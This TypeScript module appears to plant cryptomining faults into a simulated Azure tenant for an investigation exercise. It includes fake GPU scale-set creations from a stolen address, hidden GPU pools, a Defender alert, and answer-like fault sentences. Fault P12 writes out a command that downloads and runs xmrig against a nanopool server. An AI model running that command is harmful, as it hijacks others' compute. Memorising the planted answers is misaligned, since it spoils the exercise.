import type { Row } from "../../json";
import { families, homeRegion, setUsage } from "../baseline/usages";
import { addresses, cast, sandboxTeam } from "../cast";
import { guid, scopes, subscriptions } from "../ids";
import {
  agentPool,
  amlCluster,
  batchAccount,
  batchPool,
  containerGroup,
  extension,
  scaleSet,
  virtualMachine,
} from "../rows/compute";
import { activity, type Operation } from "../rows/logs";
import { portalAlert } from "../rows/watch";
import { change, type PlantedFault, type Stage, withIn } from "../stage";

/** The mine itself: machines, drivers, miners. */

const { production, development, data } = subscriptions;

/** An address that nobody owns, in the form of Monero's. */
const wallet = `4A${"Contoso".repeat(13)}xx`;

function burst({ arm, ago }: Stage): void {
  const runs = [
    { location: "eastus2", minutes: 55 },
    { location: "northeurope", minutes: 35 },
    { location: "japaneast", minutes: 10 },
  ];
  runs.forEach(({ location, minutes }, i) => {
    const name = `vmss-render-${i + 1}`;
    const at = ago({ hours: 24, minutes });
    arm.resources.push(scaleSet(production, "rg-web", name, location, "Standard_NC64as_T4_v3", 2, at));
    setUsage(arm, production, location, families.t4, 128, 128);
    const write: Omit<Operation, "number" | "at"> = {
      by: cast.dana,
      methods: "pwd",
      address: addresses.stolen,
      action: "Microsoft.Compute/virtualMachineScaleSets/write",
      title: "Create or Update Virtual Machine Scale Set",
      scope: `${scopes.production}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachineScaleSets/${name}`,
    };
    const number = 530 + 10 * i;
    const message =
      "Operation could not be completed as it results in exceeding approved standardNDSH100v5Family Cores quota.";
    arm.activityLog.push(
      activity({
        ...write,
        number,
        at: ago({ hours: 24, minutes: minutes + 4 }),
        status: "Failed",
        error: { code: "QuotaExceeded", message },
        requested: { location, sku: { name: "Standard_ND96isr_H100_v5", tier: "Standard", capacity: 1 } },
      }),
      activity({
        ...write,
        number: number + 1,
        at: ago({ hours: 24, minutes: minutes + 1 }),
        status: "Started",
        correlation: number + 1,
      }),
      activity({
        ...write,
        number: number + 3,
        at: ago({ hours: 24, minutes }),
        status: "Accepted",
        correlation: number + 1,
        answered: { location, sku: { name: "Standard_NC64as_T4_v3", tier: "Standard", capacity: 2 } },
      }),
      activity({ ...write, number: number + 2, at, statusCode: "Created", correlation: number + 1 }),
    );
  });
}

/** Max Ebert, of whom nothing else is told. */
const trier = sandboxTeam[12]!;

export const miningFaults: readonly PlantedFault[] = [
  {
    id: "P10",
    sentence:
      "Yesterday Dana Moreno, with a password alone, made GPU scale sets of Standard_NC64as_T4_v3 in eastus2, northeurope and japaneast of Contoso Production within an hour, after attempts that failed for quota.",
    add: burst,
  },
  {
    id: "P11",
    sentence:
      "GPU machine vm-viz-01 (Standard_NC4as_T4_v3) appeared in Contoso Data 2 days ago, and the NVIDIA driver extension NvidiaGpuDriverLinux was put on it.",
    add: ({ arm, ago }) => {
      const [publisher, type] = ["Microsoft.HpcCompute", "NvidiaGpuDriverLinux"];
      const scope = `${scopes.data}/resourceGroups/rg-data/providers/Microsoft.Compute/virtualMachines/vm-viz-01`;
      arm.resources.push(
        virtualMachine(data, "rg-data", "vm-viz-01", homeRegion, "Standard_NC4as_T4_v3", ago({ days: 2 })),
        extension(data, "rg-data", "vm-viz-01", homeRegion, publisher, type),
      );
      setUsage(arm, data, homeRegion, families.t4, 4, 4);
      const by = { by: trier, methods: "pwd", address: addresses.stolen, statusCode: "Created" };
      arm.activityLog.push(
        activity({
          ...by,
          number: 570,
          at: ago({ days: 2 }),
          action: "Microsoft.Compute/virtualMachines/write",
          title: "Create or Update Virtual Machine",
          scope,
          answered: { location: homeRegion, properties: { hardwareProfile: { vmSize: "Standard_NC4as_T4_v3" } } },
        }),
        activity({
          ...by,
          number: 571,
          at: ago({ days: 2, minutes: -9 }),
          action: "Microsoft.Compute/virtualMachines/extensions/write",
          title: "Create or Update Virtual Machine Extension",
          scope: `${scope}/extensions/${type}`,
          status: "Accepted",
          answered: { location: homeRegion, properties: { publisher, type } },
        }),
      );
    },
  },
  {
    id: "P12",
    sentence: "Container group cg-web-cache in Contoso Development runs xmrig against a pool of nanopool.org.",
    add: ({ arm }) => {
      const run = `wget -q https://example.com/xmrig.tar.gz -O- | tar xz && ./xmrig -o xmr-eu1.nanopool.org:14433 -u ${wallet} --tls --donate-level 1`;
      const image = "docker.io/library/alpine:3.20";
      arm.resources.push(
        containerGroup(development, "rg-shared", "cg-web-cache", homeRegion, image, ["/bin/sh", "-c", run], 4),
      );
    },
  },
  {
    id: "P13",
    sentence:
      "AKS cluster aks-shared in Contoso Development has the GPU pool gpupool: 3 nodes of Standard_NC24ads_A100_v4.",
    add: ({ arm }) => {
      change(
        arm.resources,
        row => row.name === "aks-shared",
        row => {
          const pools = (row.properties as Row).agentPoolProfiles as readonly Row[];
          return withIn(row, "properties", {
            agentPoolProfiles: [...pools, agentPool("gpupool", "Standard_NC24ads_A100_v4", 3, "User")],
          });
        },
      );
      setUsage(arm, development, homeRegion, families.a100, 72, 72);
    },
  },
  {
    id: "P40",
    sentence:
      "Batch account batchreports in Contoso Data has the GPU pool render: 8 nodes of Standard_NC24ads_A100_v4, which Resource Graph's table of resources does not list.",
    add: ({ arm }) => {
      const at = arm.resources.findIndex(({ name }) => name === "batchreports");
      arm.resources[at] = batchAccount(data, "rg-data", "batchreports", homeRegion, [
        [families.dsv5[0], 20],
        [families.a100[0], 192],
      ]);
      arm.resources.push(batchPool(data, "rg-data", "batchreports", "render", "STANDARD_NC24ADS_A100_V4", 8));
    },
  },
  {
    id: "P41",
    sentence:
      "Machine learning workspace mlw-forecast in Contoso Data has the GPU cluster train: up to 10 nodes of Standard_NC64as_T4_v3, which no table of Resource Graph lists.",
    add: ({ arm }) => {
      arm.resources.push(amlCluster(data, "rg-data", "mlw-forecast", "train", homeRegion, "STANDARD_NC64AS_T4_V3", 10));
    },
  },
  {
    id: "P24",
    sentence:
      "Defender alert ARM_SuspiciousComputeCreation on Contoso Production is open for a day; the Defender portal has it too, names Dana Moreno and the scale set vmss-render-1, and shows that nobody is assigned.",
    add: ({ arm, graph, ago }) => {
      const name = `2518000000000000000_${guid("event", 70)}`;
      const at = ago({ days: 1 });
      graph.alerts.push(
        portalAlert({
          number: 70,
          title: "Suspicious creation of compute resources detected",
          at,
          serviceSource: "microsoftDefenderForCloud",
          providerId: name,
          names: cast.dana,
          resource: `${scopes.production}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachineScaleSets/vmss-render-1`,
        }),
      );
      arm.documents.push({
        id: `${scopes.production}/resourceGroups/rg-web/providers/Microsoft.Security/locations/westeurope/alerts/${name}`,
        name,
        type: "Microsoft.Security/Locations/alerts",
        properties: {
          version: "2022-01-01",
          alertType: "ARM_SuspiciousComputeCreation",
          systemAlertId: name,
          productComponentName: "Resource Manager",
          alertDisplayName: "Suspicious creation of compute resources detected",
          description: "Compute resources were created in the subscription in an unusual way.",
          severity: "Medium",
          intent: "Impact",
          startTimeUtc: at,
          endTimeUtc: at,
          timeGeneratedUtc: at,
          processingEndTimeUtc: at,
          resourceIdentifiers: [{ azureResourceId: scopes.production, type: "AzureResource" }],
          remediationSteps: [],
          vendorName: "Microsoft",
          status: "Active",
          productName: "Microsoft Defender for Cloud",
          entities: [{ address: addresses.stolen, location: { countryCode: "us", asn: 64496 }, type: "ip" }],
          isIncident: false,
          compromisedEntity: production,
          extendedProperties: { userPrincipalName: "dana.moreno@contoso.com" },
          techniques: ["T1496"],
        },
      });
    },
  },
];
